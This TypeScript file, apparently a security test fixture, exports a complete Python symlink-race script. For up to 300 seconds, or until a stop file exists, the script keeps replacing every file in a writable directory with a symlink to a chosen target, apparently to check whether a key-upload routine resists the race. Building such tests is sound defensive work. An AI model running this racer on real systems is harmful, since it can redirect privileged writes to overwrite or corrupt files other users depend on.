/**
 * The attacker of a key upload into a directory it can write: replaces every regular file in
 * DIR by a symlink to TARGET, as fast as it can, until STOP exists (at most 300 s); prints
 * `swaps=N`. Run as `python3 -c SYMLINK_RACER DIR TARGET STOP` (or from a file) as that user.
 */
export const SYMLINK_RACER = `
import os, sys, time
d, target, stop = sys.argv[1], sys.argv[2], sys.argv[3]
swaps, n, end = 0, 0, time.time() + 300
while time.time() < end and not os.path.exists(stop):
    for name in os.listdir(d):
        p = os.path.join(d, name)
        if name.startswith(".attack") or os.path.islink(p) or not os.path.isfile(p):
            continue
        tmp = os.path.join(d, ".attack%d" % n)
        n += 1
        try:
            os.symlink(target, tmp)
            os.rename(tmp, p)
            swaps += 1
        except OSError:
            try:
                os.unlink(tmp)
            except OSError:
                pass
print("swaps=%d" % swaps)
`;
